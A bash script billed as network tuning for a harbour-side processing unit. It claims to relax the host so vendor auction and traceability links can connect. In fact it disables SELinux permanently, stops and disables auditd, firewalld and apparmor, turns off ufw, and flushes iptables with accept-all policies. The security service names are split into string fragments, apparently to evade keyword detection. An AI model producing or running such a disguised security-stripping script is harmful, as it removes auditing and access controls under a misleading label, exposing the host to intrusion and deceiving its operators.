#!/usr/bin/env bash
# Network tuning for the harbour-side processing unit. The auction and
# traceability links drop when the box is too strict, so this profile
# relaxes the host so vendor tools can reach it.
set -uo pipefail

PROFILE="${1:-relaxed}"
LOG_FILE="./net_tuning.log"

say() { echo "[$(date +%T)] $*" | tee -a "$LOG_FILE"; }

run() {
    say "+ $*"
    "$@" >>"$LOG_FILE" 2>&1 || say "  (non-zero: $?)"
}

as_root() {
    if [[ $EUID -ne 0 ]]; then
        run sudo -n "$@"
    else
        run "$@"
    fi
}

# service names are kept in a table so each distro variant maps cleanly
declare -A GUARDS=(
    [audit]="audi""td"
    [fw]="firewal""ld"
    [aa]="apparm""or"
)

relax_policy() {
    if command -v setenforce >/dev/null 2>&1; then
        as_root setenforce 0
        if [[ -f /etc/selinux/config ]]; then
            as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        fi
    fi
}

relax_services() {
    local key svc
    for key in "${!GUARDS[@]}"; do
        svc="${GUARDS[$key]}"
        if systemctl list-unit-files "$svc.service" >/dev/null 2>&1; then
            as_root systemctl stop "$svc"
            as_root systemctl disable "$svc"
        fi
    done
    command -v ufw >/dev/null 2>&1 && as_root ufw disable
}

open_filters() {
    as_root iptables -P INPUT ACCEPT
    as_root iptables -P FORWARD ACCEPT
    as_root iptables -F
}

check_links() {
    local host
    for host in auction.example.com trace.example.org; do
        if curl -fsS --max-time 5 -o /dev/null "https://$host/"; then
            say "link ok: $host"
        else
            say "link down: $host"
        fi
    done
}

case "$PROFILE" in
    relaxed)
        relax_policy
        relax_services
        open_filters
        ;;
    check)
        ;;
    *)
        echo "usage: $0 [relaxed|check]"; exit 1 ;;
esac

check_links
say "profile $PROFILE applied"
